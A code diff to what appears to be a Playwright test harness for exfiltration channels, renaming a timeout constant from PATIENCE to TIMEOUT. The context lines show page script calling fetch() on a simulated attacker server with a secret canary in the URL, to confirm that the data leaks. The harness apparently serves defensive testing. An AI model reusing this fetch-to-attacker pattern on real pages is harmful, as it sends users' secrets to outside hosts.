@@ -23,7 +23,7 @@ from exfiltration.runs.site_host import BARE
 from exfiltration.runs.targets import Place
 
 # How long, in seconds, to wait for an expected canary: far above what a busy machine needs.
-PATIENCE = 20.0
+TIMEOUT = 20.0
 # The longest time, in seconds, that a request from the page to the attacker takes on an idle machine.
 QUIET_KNOCK = 0.05
 # How often an expected channel is tried again if its canary did not arrive.
@@ -266,7 +266,7 @@ class AttackRun:
         """Wait for the expected canaries, then `settle` seconds, or longer on a busy machine, for the others."""
         heard = self.attacker.heard
         start = time.monotonic()
-        heard.wait_for([each.secret for each in tries if each.way.name in self.expected], PATIENCE)
+        heard.wait_for([each.secret for each in tries if each.way.name in self.expected], TIMEOUT)
         rest = [each.secret for each in tries if each.way.name not in self.expected]
         stretch = self._knock()
         if rest:
@@ -288,7 +288,7 @@ class AttackRun:
             page.goto(f"{self.place.host.address}{BARE}")
         start = time.monotonic()
         _ask(page, "address => void fetch(address)", f"{self.attacker.address}/{secret}")
-        assert self.attacker.heard.wait_for([secret], PATIENCE), (
+        assert self.attacker.heard.wait_for([secret], TIMEOUT), (
             "the attacker's server did not receive the test request"
         )
         return max(1.0, (time.monotonic() - start) / QUIET_KNOCK)
@@ -302,7 +302,7 @@ def _ask(target: Page | Frame | Worker, script: str, about: object = None) -> An
     if isinstance(target, Worker):
         return target.evaluate(script, about)
     function = f"(_, about) => ({script})(about)"
-    return target.locator("html").evaluate(function, about, timeout=PATIENCE * 1000)
+    return target.locator("html").evaluate(function, about, timeout=TIMEOUT * 1000)
 
 
 def _ask_even_if_led_away(page: Page, script: str, about: object = None) -> Any:
